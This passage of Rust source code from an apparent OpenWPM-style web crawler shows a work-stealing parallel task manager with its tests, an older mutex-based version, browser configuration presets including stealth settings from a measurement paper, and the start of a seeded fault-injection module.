                    let item = boxed[i].lock().unwrap().take().expect("item taken once");
                    let r = step(&mut state, i, item);
                    results.lock().unwrap()[i] = Some(r);
                }
            });
        }
    });
    results
        .into_inner()
        .unwrap()
        .into_iter()
        .map(|r| r.expect("all items processed"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn processes_all_items_in_order() {
        let items: Vec<u64> = (0..100).collect();
        let out = run_parallel(items, 4, |_| 0u64, |state, _i, item| {
            *state += 1;
            item * 2
        });
        assert_eq!(out.len(), 100);
        for (i, v) in out.iter().enumerate() {
            assert_eq!(*v, (i as u64) * 2);
        }
    }

    #[test]
    fn single_worker_works() {
        let out = run_parallel(vec![1, 2, 3], 1, |_| (), |_, _, x| x + 1);
        assert_eq!(out, vec![2, 3, 4]);
    }

    #[test]
    fn empty_input() {
        let out: Vec<i32> = run_parallel(Vec::<i32>::new(), 8, |_| (), |_, _, x| x);
        assert!(out.is_empty());
    }

    #[test]
    fn per_worker_state_is_isolated() {
        // Each worker counts its own processed items; totals must equal n.
        let counts = Mutex::new(Vec::new());
        run_parallel(
            (0..50).collect::<Vec<_>>(),
            3,
            |_| 0usize,
            |state, _, _| {
                *state += 1;
                counts.lock().unwrap().push(());
            },
        );
        assert_eq!(counts.lock().unwrap().len(), 50);
    }
}
