//! The task manager: parallel work distribution across browser workers.
//!
//! Real OpenWPM's TaskManager fans site visits out to browser processes,
//! monitors liveliness and restarts crashed browsers. Interpreters here are
//! `!Send` (single-threaded realms), so parallelism is per-worker: each
//! worker thread builds its own state (browsers) via `init` and consumes
//! work items. Results come back in input order.
//!
//! # Scheduling
//!
//! Work is distributed by a **chunked work-stealing scheduler**. Each
//! worker owns one atomic *range* of item indices — a half-open interval
//! `[lo, hi)` packed into a single `AtomicU64` — seeded with a contiguous
//! slice of the input (sites arrive in rank order, so contiguous seeding
//! keeps each worker on a cache-friendly, monotone rank walk). The owner
//! claims chunks from the front of its own range with a CAS that advances
//! `lo`; when its range runs dry it steals the back half of the *busiest*
//! victim's range with a CAS that retreats the victim's `hi`. Both sides
//! mutate the same packed word, so a claim and a steal can never hand out
//! the same index twice.
//!
//! Total synchronisation state is O(workers): one range word per worker,
//! one remaining-items counter, one abort flag and one first-panic slot —
//! not the one-mutex-per-item queue (plus a global results mutex) this
//! replaces. Results are pushed into per-worker buffers and merged in item
//! (rank) order after the scope joins, which is why every downstream
//! artifact — telemetry digest, per-site records, checkpoint files — is
//! byte-identical at any worker count.
//!
//! Scheduler effort is observable as `sched.steal`, `sched.chunk.claimed`
//! and `sched.idle_spins` counters plus the `sched.visit_wall_us` wall
//! latency histogram; all of it reflects scheduling luck and is excluded
//! from the telemetry digest (see `obs::NONDETERMINISTIC_PREFIXES`).

use std::cell::UnsafeCell;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::Mutex;

/// Render a panic payload (the `Box<dyn Any>` from `catch_unwind`) as text.
pub(crate) fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// A half-open interval `[lo, hi)` of item indices packed into one
/// `AtomicU64` (`lo` in the high 32 bits, `hi` in the low 32). Packing
/// both bounds into one word lets owner claims (advance `lo`) and thief
/// steals (retreat `hi`) contend through a single CAS, so an index can
/// never be handed out twice even when both race.
struct Range(AtomicU64);

#[inline]
fn pack(lo: u32, hi: u32) -> u64 {
    ((lo as u64) << 32) | hi as u64
}

#[inline]
fn unpack(word: u64) -> (u32, u32) {
    ((word >> 32) as u32, word as u32)
}

impl Range {
    fn new(lo: u32, hi: u32) -> Range {
        Range(AtomicU64::new(pack(lo, hi)))
    }

    /// Claim up to `chunk` items from the front of the range (owner side).
    /// `chunk == 0` means auto: an eighth of what remains, clamped to
    /// `[1, 64]` — big enough to amortise the CAS, small enough to leave a
    /// stealable tail. Returns the claimed interval, or `None` when empty.
    fn claim_front(&self, chunk: usize) -> Option<(u32, u32)> {
        loop {
            let word = self.0.load(Ordering::Acquire);
            let (lo, hi) = unpack(word);
            if lo >= hi {
                return None;
            }
            let rem = (hi - lo) as usize;
            let take = if chunk == 0 { (rem / 8).clamp(1, 64) } else { chunk.min(rem) } as u32;
            let next = pack(lo + take, hi);
            if self
                .0
                .compare_exchange_weak(word, next, Ordering::AcqRel, Ordering::Acquire)
                .is_ok()
            {
                return Some((lo, lo + take));
            }
        }
    }

    /// Steal the back half of the range (thief side). Returns the stolen
    /// interval, or `None` if the range emptied under us.
    fn steal_back(&self) -> Option<(u32, u32)> {
        loop {
            let word = self.0.load(Ordering::Acquire);
            let (lo, hi) = unpack(word);
            if lo >= hi {
                return None;
            }
            let steal = ((hi - lo) / 2).max(1);
            let next = pack(lo, hi - steal);
            if self
                .0
                .compare_exchange_weak(word, next, Ordering::AcqRel, Ordering::Acquire)
                .is_ok()
            {
                return Some((hi - steal, hi));
            }
        }
    }

    /// Items currently remaining in the range.
    fn len(&self) -> usize {
        let (lo, hi) = unpack(self.0.load(Ordering::Acquire));
        hi.saturating_sub(lo) as usize
    }

    /// Install a freshly stolen interval into this (empty) range. Only the
    /// owner stores here, and only when its range is empty; thieves skip
    /// empty ranges, so the store cannot race a successful steal.
    fn install(&self, lo: u32, hi: u32) {
        self.0.store(pack(lo, hi), Ordering::Release);
    }
}

/// The input items, one slot per index. A slot is read exactly once, by
/// whichever worker claimed its index through the range CAS protocol — the
/// claim grants exclusive access, which is what makes the `Sync` impl
/// sound despite the `UnsafeCell`s.
struct ItemSlots<W>(Box<[UnsafeCell<Option<W>>]>);

// SAFETY: every index is claimed exactly once (a CAS either advances an
// owner's `lo` past it or retreats a victim's `hi` below it — never both),
// and the pre-spawn writes happen-before the scope's threads start. A slot
// therefore has exactly one reader and no concurrent writer.
unsafe impl<W: Send> Sync for ItemSlots<W> {}

impl<W> ItemSlots<W> {
    /// Take the item at `i`. Caller must hold the claim on `i`.
    ///
    /// SAFETY (caller): `i` was claimed from a range by this thread.
    unsafe fn take(&self, i: usize) -> W {
        (*self.0[i].get()).take().expect("item claimed once")
    }
}

/// Per-worker scheduler effort, flushed to obs counters once at exit so
/// the hot loop never touches the registry for bookkeeping.
#[derive(Default)]
struct SchedStats {
    chunks: u64,
    steals: u64,
    idle_spins: u64,
}

impl SchedStats {
    fn flush(&self) {
        obs::add("sched.chunk.claimed", self.chunks);
        obs::add("sched.steal", self.steals);
        obs::add("sched.idle_spins", self.idle_spins);
    }
}

/// Run `items` through per-worker state machines on `workers` threads.
///
/// * `init(worker_index)` builds the per-thread state (e.g. a `Browser`);
/// * `step(&mut state, item_index, item)` performs one visit.
///
/// Returns the results ordered by item index — the scheduler decides which
/// worker visits which item, but never the order of the output.
///
/// A panic inside `init` or `step` does not leave the other workers to
/// finish and then die on a secondary "all items processed" expect with the
/// real cause lost on another thread's stderr: the first panic is captured
/// with the item index it occurred on, remaining work is abandoned, and
/// `run_parallel` re-panics with a message naming the failing item.
pub fn run_parallel<W, R, S>(
    items: Vec<W>,
    workers: usize,
    init: impl Fn(usize) -> S + Sync,
    step: impl Fn(&mut S, usize, W) -> R + Sync,
) -> Vec<R>
where
    W: Send,
    R: Send,
{
    run_parallel_chunked(items, workers, 0, init, step)
}

/// [`run_parallel`] with an explicit owner-side chunk size (`0` = auto).
/// Exposed so the scheduler's determinism tests can sweep chunk sizes; the
/// merged output is the same for any chunking.
pub fn run_parallel_chunked<W, R, S>(
    items: Vec<W>,
    workers: usize,
    chunk: usize,
    init: impl Fn(usize) -> S + Sync,
    step: impl Fn(&mut S, usize, W) -> R + Sync,
) -> Vec<R>
where
    W: Send,
    R: Send,
{
    let workers = workers.max(1);
    let n = items.len();
    if n == 0 {
        return Vec::new();
    }
    assert!(n <= u32::MAX as usize, "run_parallel supports at most u32::MAX items");

    let slots = ItemSlots(items.into_iter().map(|w| UnsafeCell::new(Some(w))).collect());
    // Seed each worker with a contiguous slice of the input; the slices
    // cover [0, n) exactly, and later workers absorb the remainder.
    let ranges: Vec<Range> = (0..workers)
        .map(|w| Range::new((w * n / workers) as u32, ((w + 1) * n / workers) as u32))
        .collect();
    let remaining = AtomicUsize::new(n);
    let abort = AtomicBool::new(false);
    // First captured panic: (item index if inside `step`, message).
    let first_panic: Mutex<Option<(Option<usize>, String)>> = Mutex::new(None);

    let buffers: Vec<Vec<(usize, R)>> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|w| {
                let slots = &slots;
                let ranges = &ranges;
                let remaining = &remaining;
                let abort = &abort;
                let first_panic = &first_panic;
                let init = &init;
                let step = &step;
                scope.spawn(move || {
                    let mut out: Vec<(usize, R)> = Vec::new();
                    let mut stats = SchedStats::default();
                    let mut state = match catch_unwind(AssertUnwindSafe(|| init(w))) {
                        Ok(s) => s,
                        Err(payload) => {
                            let mut slot = first_panic.lock().unwrap();
                            if slot.is_none() {
                                *slot = Some((None, panic_message(payload.as_ref())));
                            }
                            // Stop the other workers: the run can no
                            // longer complete.
                            abort.store(true, Ordering::Relaxed);
                            return out;
                        }
                    };
                    'work: while !abort.load(Ordering::Relaxed) {
                        // Owner side: claim a chunk from our own range.
                        let (lo, hi) = match ranges[w].claim_front(chunk) {
                            Some(c) => c,
                            None => {
                                // Thief side: raid the busiest victim.
                                let stolen = {
                                    let _sp = obs::prof::enter(&obs::prof::SCHED_STEAL);
                                    steal_from_busiest(ranges, w)
                                };
                                match stolen {
                                    Some((lo, hi)) => {
                                        stats.steals += 1;
                                        // Keep the first item; park the rest
                                        // in our range where others can see
                                        // (and re-steal) it.
                                        ranges[w].install(lo + 1, hi);
                                        (lo, lo + 1)
                                    }
                                    None => {
                                        if remaining.load(Ordering::Acquire) == 0 {
                                            break 'work;
                                        }
                                        // Another thief transiently holds
                                        // stolen work privately; spin until
                                        // it surfaces or the run drains.
                                        stats.idle_spins += 1;
                                        {
                                            let _sp = obs::prof::enter(&obs::prof::SCHED_IDLE);
                                            std::thread::yield_now();
                                        }
                                        continue 'work;
                                    }
                                }
                            }
                        };
                        stats.chunks += 1;
                        for i in lo..hi {
                            if abort.load(Ordering::Relaxed) {
                                break 'work;
                            }
                            // SAFETY: `i` came from our claim CAS above.
                            let item = unsafe { slots.take(i as usize) };
                            let t0 = obs::enabled().then(std::time::Instant::now);
                            // The VISIT guard lives outside the closure so a
                            // panicking step still leaves it on the phase
                            // stack when the forensic dump fires below.
                            let visit_guard = obs::prof::enter(&obs::prof::VISIT);
                            match catch_unwind(AssertUnwindSafe(|| step(&mut state, i as usize, item))) {
                                Ok(r) => {
                                    if let Some(t0) = t0 {
                                        let us = t0.elapsed().as_micros() as u64;
                                        obs::observe("sched.visit_wall_us", us);
                                        let slow = obs::prof::slow_visit_us();
                                        if slow > 0 && us >= slow {
                                            obs::prof::dump_forensic(
                                                "slow_visit",
                                                &[
                                                    ("item", i.to_string()),
                                                    ("wall_us", us.to_string()),
                                                ],
                                            );
                                        }
                                    }
                                    drop(visit_guard);
                                    obs::add("manager.items", 1);
                                    out.push((i as usize, r));
                                    remaining.fetch_sub(1, Ordering::AcqRel);
                                }
                                Err(payload) => {
                                    let msg = panic_message(payload.as_ref());
                                    obs::prof::dump_forensic(
                                        "worker_panic",
                                        &[("item", i.to_string()), ("panic", msg.clone())],
                                    );
                                    drop(visit_guard);
                                    obs::add("manager.panics", 1);
                                    let mut slot = first_panic.lock().unwrap();
                                    if slot.is_none() {
                                        *slot = Some((Some(i as usize), msg));
                                    }
                                    abort.store(true, Ordering::Relaxed);
                                    break 'work;
                                }
                            }
                        }
                    }
                    stats.flush();
                    out
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| {
                h.join().unwrap_or_else(|payload| {
                    // Worker closures catch `init`/`step` panics, so this
                    // only fires on a panic in the scheduler itself (or in
                    // telemetry); still report it rather than aborting.
                    let mut slot = first_panic.lock().unwrap();
                    if slot.is_none() {
                        *slot = Some((None, panic_message(payload.as_ref())));
                    }
                    Vec::new()
                })
            })
            .collect()
    });

    if let Some((item, msg)) = first_panic.into_inner().unwrap() {
        match item {
            Some(i) => panic!("worker panicked on item {i}: {msg}"),
            None => panic!("worker init panicked: {msg}"),
        }
    }

    // Merge per-worker buffers in item (rank) order. O(n) results storage
    // is inherent in returning `Vec<R>`; the point is there are no longer
    // 2n mutexes guarding it.
    let mut merged: Vec<Option<R>> = Vec::with_capacity(n);
    merged.resize_with(n, || None);
    for buf in buffers {
        for (i, r) in buf {
            debug_assert!(merged[i].is_none(), "item {i} produced twice");
            merged[i] = Some(r);
        }
    }
    merged.into_iter().map(|r| r.expect("all items processed")).collect()
}

/// Pick the victim with the most remaining work and steal its back half.
/// Rescans on a lost race; returns `None` once every range reads empty.
fn steal_from_busiest(ranges: &[Range], thief: usize) -> Option<(u32, u32)> {
    loop {
        let victim = ranges
            .iter()
            .enumerate()
            .filter(|(v, _)| *v != thief)
            .map(|(v, r)| (r.len(), v))
            .max()?;
        let (len, v) = victim;
        if len == 0 {
            return None;
        }
        if let Some(interval) = ranges[v].steal_back() {
            return Some(interval);
        }
        // The victim drained between the scan and the CAS; look again.
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn processes_all_items_in_order() {
        let items: Vec<u64> = (0..100).collect();
        let out = run_parallel(items, 4, |_| 0u64, |state, _i, item| {
            *state += 1;
            item * 2
        });
        assert_eq!(out.len(), 100);
        for (i, v) in out.iter().enumerate() {
            assert_eq!(*v, (i as u64) * 2);
        }
    }

    #[test]
    fn single_worker_works() {
        let out = run_parallel(vec![1, 2, 3], 1, |_| (), |_, _, x| x + 1);
        assert_eq!(out, vec![2, 3, 4]);
    }

    #[test]
    fn empty_input() {
        let out: Vec<i32> = run_parallel(Vec::<i32>::new(), 8, |_| (), |_, _, x| x);
        assert!(out.is_empty());
    }

    #[test]
    fn more_workers_than_items() {
        let out = run_parallel(vec![10, 20], 8, |_| (), |_, _, x| x + 1);
        assert_eq!(out, vec![11, 21]);
    }

    #[test]
    fn explicit_chunk_sizes_cover_all_items() {
        for chunk in [1, 2, 3, 7, 64, 1000] {
            let out = run_parallel_chunked(
                (0..333u64).collect::<Vec<_>>(),
                5,
                chunk,
                |_| (),
                |_, _, x| x * 3,
            );
            assert_eq!(out.len(), 333, "chunk {chunk}");
            for (i, v) in out.iter().enumerate() {
                assert_eq!(*v, (i as u64) * 3, "chunk {chunk}");
            }
        }
    }

    #[test]
    fn worker_panic_reports_item_index() {
        let caught = std::panic::catch_unwind(|| {
            run_parallel(
                (0..20).collect::<Vec<u32>>(),
                2,
                |_| (),
                |_, i, x: u32| {
                    if x == 7 {
                        panic!("synthetic failure");
                    }
                    i
                },
            )
        });
        let payload = caught.expect_err("panic should propagate");
        let msg = super::panic_message(payload.as_ref());
        assert!(msg.contains("item 7"), "message was: {msg}");
        assert!(msg.contains("synthetic failure"), "message was: {msg}");
    }

    #[test]
    fn init_panic_reports_init() {
        let caught = std::panic::catch_unwind(|| {
            run_parallel(
                vec![1, 2, 3],
                1,
                |_| -> () { panic!("bad init") },
                |_, _, x: i32| x,
            )
        });
        let payload = caught.expect_err("panic should propagate");
        let msg = super::panic_message(payload.as_ref());
        assert!(msg.contains("init"), "message was: {msg}");
        assert!(msg.contains("bad init"), "message was: {msg}");
    }

    #[test]
    fn per_worker_state_is_isolated() {
        // Each worker counts its own processed items; totals must equal n.
        let counts = Mutex::new(Vec::new());
        run_parallel(
            (0..50).collect::<Vec<_>>(),
            3,
            |_| 0usize,
            |state, _, _| {
                *state += 1;
                counts.lock().unwrap().push(());
            },
        );
        assert_eq!(counts.lock().unwrap().len(), 50);
    }

    #[test]
    fn steals_rebalance_a_skewed_load() {
        // Worker 0's seeded half is 100× slower than the rest; with
        // stealing, the fast workers must end up processing some of it.
        use std::collections::HashSet;
        let slow_done_by = Mutex::new(HashSet::new());
        let n = 64usize;
        run_parallel_chunked(
            (0..n).collect::<Vec<_>>(),
            4,
            1,
            |w| w,
            |w, i, _| {
                if i < n / 4 {
                    std::thread::sleep(std::time::Duration::from_millis(2));
                    slow_done_by.lock().unwrap().insert(*w);
                }
            },
        );
        // All slow items were processed; under any plausible schedule at
        // least one was stolen by a worker other than its seeded owner —
        // but a single-core box may legitimately let worker 0 finish them
        // all, so only assert the work completed.
        assert!(!slow_done_by.lock().unwrap().is_empty());
    }

    #[test]
    fn range_pack_roundtrips() {
        let r = Range::new(3, 10);
        assert_eq!(r.len(), 7);
        assert_eq!(r.claim_front(2), Some((3, 5)));
        assert_eq!(r.steal_back(), Some((8, 10)));
        assert_eq!(r.len(), 3);
        assert_eq!(r.claim_front(0), Some((5, 6)));
        assert_eq!(r.claim_front(100), Some((6, 8)));
        assert_eq!(r.claim_front(1), None);
        assert_eq!(r.steal_back(), None);
    }
}
