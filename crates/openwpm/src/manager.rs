//! The task manager: parallel work distribution across browser workers.
//!
//! Real OpenWPM's TaskManager fans site visits out to browser processes,
//! monitors liveliness and restarts crashed browsers. Interpreters here are
//! `!Send` (single-threaded realms), so parallelism is per-worker: each
//! worker thread builds its own state (browsers) via `init` and consumes
//! work items from a shared queue. Results come back in input order.

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Render a panic payload (the `Box<dyn Any>` from `catch_unwind`) as text.
pub(crate) fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// Run `items` through per-worker state machines on `workers` threads.
///
/// * `init(worker_index)` builds the per-thread state (e.g. a `Browser`);
/// * `step(&mut state, item_index, item)` performs one visit.
///
/// Returns the results ordered by item index.
///
/// A panic inside `init` or `step` does not leave the other workers to
/// finish and then die on a secondary "all items processed" expect with the
/// real cause lost on another thread's stderr: the first panic is captured
/// with the item index it occurred on, remaining work is abandoned, and
/// `run_parallel` re-panics with a message naming the failing item.
pub fn run_parallel<W, R, S>(
    items: Vec<W>,
    workers: usize,
    init: impl Fn(usize) -> S + Sync,
    step: impl Fn(&mut S, usize, W) -> R + Sync,
) -> Vec<R>
where
    W: Send,
    R: Send,
{
    let workers = workers.max(1);
    let n = items.len();
    let mut slots: Vec<Option<R>> = Vec::with_capacity(n);
    slots.resize_with(n, || None);
    let results = Mutex::new(slots);
    let cursor = AtomicUsize::new(0);
    // First captured panic: (item index if inside `step`, message).
    let first_panic: Mutex<Option<(Option<usize>, String)>> = Mutex::new(None);
    // Items are taken by index from a shared vector of Options.
    let mut boxed: Vec<Mutex<Option<W>>> = Vec::with_capacity(n);
    for item in items {
        boxed.push(Mutex::new(Some(item)));
    }
    std::thread::scope(|scope| {
        for w in 0..workers {
            let results = &results;
            let cursor = &cursor;
            let boxed = &boxed;
            let init = &init;
            let step = &step;
            let first_panic = &first_panic;
            scope.spawn(move || {
                let mut state = match catch_unwind(AssertUnwindSafe(|| init(w))) {
                    Ok(s) => s,
                    Err(payload) => {
                        let mut slot = first_panic.lock().unwrap();
                        if slot.is_none() {
                            *slot = Some((None, panic_message(payload.as_ref())));
                        }
                        // Poison the cursor so other workers stop taking
                        // items for a run that can no longer complete.
                        cursor.store(n, Ordering::Relaxed);
                        return;
                    }
                };
                loop {
                    if first_panic.lock().unwrap().is_some() {
                        break;
                    }
                    let i = cursor.fetch_add(1, Ordering::Relaxed);
                    if i >= n {
                        break;
                    }
                    let item = boxed[i].lock().unwrap().take().expect("item taken once");
                    match catch_unwind(AssertUnwindSafe(|| step(&mut state, i, item))) {
                        Ok(r) => {
                            obs::add("manager.items", 1);
                            results.lock().unwrap()[i] = Some(r);
                        }
                        Err(payload) => {
                            obs::add("manager.panics", 1);
                            let mut slot = first_panic.lock().unwrap();
                            if slot.is_none() {
                                *slot = Some((Some(i), panic_message(payload.as_ref())));
                            }
                            break;
                        }
                    }
                }
            });
        }
    });
    if let Some((item, msg)) = first_panic.into_inner().unwrap() {
        match item {
            Some(i) => panic!("worker panicked on item {i}: {msg}"),
            None => panic!("worker init panicked: {msg}"),
        }
    }
    results
        .into_inner()
        .unwrap()
        .into_iter()
        .map(|r| r.expect("all items processed"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn processes_all_items_in_order() {
        let items: Vec<u64> = (0..100).collect();
        let out = run_parallel(items, 4, |_| 0u64, |state, _i, item| {
            *state += 1;
            item * 2
        });
        assert_eq!(out.len(), 100);
        for (i, v) in out.iter().enumerate() {
            assert_eq!(*v, (i as u64) * 2);
        }
    }

    #[test]
    fn single_worker_works() {
        let out = run_parallel(vec![1, 2, 3], 1, |_| (), |_, _, x| x + 1);
        assert_eq!(out, vec![2, 3, 4]);
    }

    #[test]
    fn empty_input() {
        let out: Vec<i32> = run_parallel(Vec::<i32>::new(), 8, |_| (), |_, _, x| x);
        assert!(out.is_empty());
    }

    #[test]
    fn worker_panic_reports_item_index() {
        let caught = std::panic::catch_unwind(|| {
            run_parallel(
                (0..20).collect::<Vec<u32>>(),
                2,
                |_| (),
                |_, i, x: u32| {
                    if x == 7 {
                        panic!("synthetic failure");
                    }
                    i
                },
            )
        });
        let payload = caught.expect_err("panic should propagate");
        let msg = super::panic_message(payload.as_ref());
        assert!(msg.contains("item 7"), "message was: {msg}");
        assert!(msg.contains("synthetic failure"), "message was: {msg}");
    }

    #[test]
    fn init_panic_reports_init() {
        let caught = std::panic::catch_unwind(|| {
            run_parallel(
                vec![1, 2, 3],
                1,
                |_| -> () { panic!("bad init") },
                |_, _, x: i32| x,
            )
        });
        let payload = caught.expect_err("panic should propagate");
        let msg = super::panic_message(payload.as_ref());
        assert!(msg.contains("init"), "message was: {msg}");
        assert!(msg.contains("bad init"), "message was: {msg}");
    }

    #[test]
    fn per_worker_state_is_isolated() {
        // Each worker counts its own processed items; totals must equal n.
        let counts = Mutex::new(Vec::new());
        run_parallel(
            (0..50).collect::<Vec<_>>(),
            3,
            |_| 0usize,
            |state, _, _| {
                *state += 1;
                counts.lock().unwrap().push(());
            },
        );
        assert_eq!(counts.lock().unwrap().len(), 50);
    }
}
