//! Crawler configuration, mirroring OpenWPM's `BrowserParams` +
//! `ManagerParams` plus the stealth settings file introduced in Sec. 6.1.5.

use browser::{Os, RunMode, WindowGeometry};

/// Which JavaScript instrumentation flavour to deploy.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum JsInstrumentKind {
    /// No JavaScript instrument.
    Off,
    /// Vanilla OpenWPM: page-context wrappers installed by DOM script
    /// injection (detectable via `toString`, stack traces, window props and
    /// prototype pollution; attackable via the event dispatcher and CSP).
    Vanilla,
    /// WPM_hide: privileged native hooks (`exportFunction`-style), secure
    /// messaging and frame protection (Sec. 6).
    Stealth,
}

/// HTTP instrument body-saving policy (Sec. 5.4.2).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum HttpSaveMode {
    /// Store every response body ("full coverage").
    Full,
    /// Store JavaScript files only — evadable by silent delivery.
    JavascriptOnly,
}

/// The stealth settings file of Sec. 6.1.5: user-settable window geometry
/// and webdriver masking.
#[derive(Clone, Debug)]
pub struct StealthSettings {
    /// Override OpenWPM's hard-coded window size/position to blend in.
    pub window_geometry: Option<WindowGeometry>,
    /// Report `navigator.webdriver === false` like a stock Firefox.
    pub mask_webdriver: bool,
    /// Intercept DOM-creating APIs so new frames/documents are instrumented
    /// (CanvasBlocker-style frame protection, Sec. 6.2.2).
    pub frame_protection: bool,
}

impl Default for StealthSettings {
    fn default() -> Self {
        StealthSettings {
            window_geometry: Some(WindowGeometry {
                screen_width: 1920,
                screen_height: 1080,
                window_width: 1276,
                window_height: 854,
                screen_x: 212,
                screen_y: 118,
                instance_offset: (0, 0),
            }),
            mask_webdriver: true,
            frame_protection: true,
        }
    }
}

/// Per-browser configuration.
#[derive(Clone, Debug)]
pub struct BrowserConfig {
    pub os: Os,
    pub mode: RunMode,
    pub js_instrument: JsInstrumentKind,
    pub http_instrument: Option<HttpSaveMode>,
    pub cookie_instrument: bool,
    /// Stealth settings; only honoured when `js_instrument == Stealth`.
    pub stealth: StealthSettings,
    /// Seconds to idle on a page after load (the paper uses 60).
    pub dwell_seconds: u64,
    /// Deterministic seed for event-id generation and honey properties.
    pub seed: u64,
    /// Honey properties per target object for the dynamic analysis
    /// (0 disables; Sec. 4.1.3).
    pub honey_properties: u32,
    /// Record page accesses to OpenWPM-specific window properties
    /// (`getInstrumentJS` etc.) — the scanning client of Sec. 4 enables
    /// this to find OpenWPM-specific detectors (Table 6).
    pub watch_openwpm_props: bool,
    /// Simulate user interaction (mouseover/click/scroll) during the dwell
    /// — an HLISA-style crawl. Default off: Table 1 shows most studies use
    /// no interaction, and the paper's scan did not either.
    pub simulate_interaction: bool,
    /// Probability (per mille) that the browser crashes during a visit;
    /// the browser manager restarts it and retries once (the framework's
    /// crash/recovery behaviour, Fig. 1).
    pub crash_per_mille: u32,
}

impl BrowserConfig {
    /// Vanilla OpenWPM as used in the paper's scan (Sec. 4.1.2): regular
    /// mode, HTTP + JS + cookie instruments, 60 s dwell.
    pub fn vanilla(seed: u64) -> BrowserConfig {
        BrowserConfig {
            os: Os::Ubuntu1804,
            mode: RunMode::Regular,
            js_instrument: JsInstrumentKind::Vanilla,
            http_instrument: Some(HttpSaveMode::JavascriptOnly),
            cookie_instrument: true,
            stealth: StealthSettings::default(),
            dwell_seconds: 60,
            seed,
            honey_properties: 0,
            watch_openwpm_props: false,
            simulate_interaction: false,
            crash_per_mille: 0,
        }
    }

    /// The hardened client (WPM_hide) of Sec. 6.
    pub fn stealth(seed: u64) -> BrowserConfig {
        BrowserConfig { js_instrument: JsInstrumentKind::Stealth, ..BrowserConfig::vanilla(seed) }
    }

    /// The scanning client of Sec. 4: vanilla OpenWPM plus honey properties
    /// and OpenWPM-property watches for the combined analysis.
    pub fn scanner(seed: u64) -> BrowserConfig {
        BrowserConfig {
            honey_properties: 10,
            watch_openwpm_props: true,
            ..BrowserConfig::vanilla(seed)
        }
    }

    /// A plain (un-instrumented) automated browser.
    pub fn bare(seed: u64) -> BrowserConfig {
        BrowserConfig {
            js_instrument: JsInstrumentKind::Off,
            http_instrument: None,
            cookie_instrument: false,
            ..BrowserConfig::vanilla(seed)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn presets() {
        let v = BrowserConfig::vanilla(1);
        assert_eq!(v.js_instrument, JsInstrumentKind::Vanilla);
        assert_eq!(v.dwell_seconds, 60);
        let s = BrowserConfig::stealth(1);
        assert_eq!(s.js_instrument, JsInstrumentKind::Stealth);
        assert!(s.stealth.mask_webdriver);
        let b = BrowserConfig::bare(1);
        assert_eq!(b.js_instrument, JsInstrumentKind::Off);
        assert!(b.http_instrument.is_none());
    }
}
