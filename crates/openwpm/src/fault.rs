//! Deterministic, seeded fault injection for crawls.
//!
//! The paper's core finding is that measurement frameworks silently lose
//! data when the web misbehaves. To evaluate the crawl layer's resilience
//! we need the *web itself* to misbehave on demand: a [`FaultPlan`]
//! describes how often each failure mode strikes, and a [`FaultInjector`]
//! turns that plan into per-`(site, attempt)` decisions that are pure
//! functions of the plan's seed — the same plan replayed over the same
//! population always produces the same faults, so a crawl under fault
//! injection is exactly as reproducible as a clean one.
//!
//! Modelled failure modes (mirroring OpenWPM's BrowserManager failure
//! taxonomy plus the netsim layer's transport):
//!
//! * **browser crash** — the whole browser process dies before the visit;
//! * **visit hang** — the page never finishes; only the supervisor's
//!   watchdog timeout ends the visit;
//! * **navigation error** — DNS/TLS-style failure, the navigation itself
//!   errors out immediately;
//! * **tab crash** — the content process dies *mid-visit*: work happens
//!   and is then lost;
//! * **transient HTTP failure** — the front page answers 503 (see
//!   [`netsim::http::HttpResponse::service_unavailable`]).

/// One injected failure mode.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum FaultKind {
    BrowserCrash,
    Hang,
    NavigationError,
    TabCrash,
    TransientHttp,
}

impl FaultKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            FaultKind::BrowserCrash => "browser_crash",
            FaultKind::Hang => "hang",
            FaultKind::NavigationError => "navigation_error",
            FaultKind::TabCrash => "tab_crash",
            FaultKind::TransientHttp => "transient_http",
        }
    }
}

/// Per-mille incidence of each failure mode, plus the seed that makes the
/// draws reproducible. The rates are *per visit attempt*: a retried visit
/// draws again, so with `crash_per_mille = 50` and three attempts the
/// probability a site ultimately fails by crashing is `0.05³`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct FaultPlan {
    pub crash_per_mille: u32,
    pub hang_per_mille: u32,
    pub nav_error_per_mille: u32,
    pub tab_crash_per_mille: u32,
    pub http_flaky_per_mille: u32,
    /// Per-mille multiplier applied to all rates on sites the population
    /// marks as flaky (`SitePlan::flaky`); 1000 = no boost.
    pub flaky_site_boost_pm: u32,
    /// Fault-draw seed — independent of the population seed so the same
    /// web can be crawled under different weather.
    pub seed: u64,
}

impl Default for FaultPlan {
    fn default() -> FaultPlan {
        FaultPlan {
            crash_per_mille: 0,
            hang_per_mille: 0,
            nav_error_per_mille: 0,
            tab_crash_per_mille: 0,
            http_flaky_per_mille: 0,
            flaky_site_boost_pm: 4000,
            seed: 0,
        }
    }
}

impl FaultPlan {
    /// No faults at all (the default).
    pub fn none() -> FaultPlan {
        FaultPlan::default()
    }

    /// The adversarial weather of the robustness evaluation: 5% browser
    /// crashes, 1% hangs, 1% navigation errors, 0.5% tab crashes, 0.5%
    /// transient HTTP failures per attempt.
    pub fn adversarial(seed: u64) -> FaultPlan {
